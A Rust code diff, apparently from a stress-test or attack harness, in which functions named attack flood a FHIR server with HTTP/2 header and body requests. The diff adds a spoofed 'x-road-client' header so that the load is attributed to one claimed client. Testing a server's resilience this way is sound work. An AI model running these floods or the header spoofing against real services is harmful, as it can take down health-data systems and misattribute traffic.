@@ -15,13 +15,16 @@ pub const CONNECTIONS: usize = 120;
 /// Headers of each of its requests.
 pub const FIELDS: usize = 2_800;
 
+/// The client of X-Road that both say they are: a server that trusts them to say so counts all they do for this one client.
+pub const CLIENT: &str = "EE/COM/10000000/attacker";
+
 /// Bodies at once of the other one.
 pub const BODIES: usize = 64;
 
 /// Opens connections that send as many requests at once as they may, each with so many headers; those that were not closed meanwhile.
 pub fn heads(address: SocketAddr, connections: usize, fields: usize) -> Vec<Http2> {
     let attack = || {
-        let mut client = Http2::connect(address, 65_535)?;
+        let mut client = Http2::connect(address, 65_535)?.with_header("x-road-client", CLIENT);
         for _ in 0..STREAMS_MAX {
             client.get_with_headers("/fhir/Composition/1", fields)?;
         }
@@ -37,7 +40,7 @@ pub fn bodies(address: SocketAddr, count: usize) {
     body.push_str("]}");
     let head = format!(
         "POST /fhir/Composition HTTP/1.1\r\nhost: {address}\r\ncontent-type: application/fhir+json\r\n\
-         content-length: {}\r\nconnection: close\r\n\r\n",
+         x-road-client: {CLIENT}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
         body.len()
     );
     let attack = || {
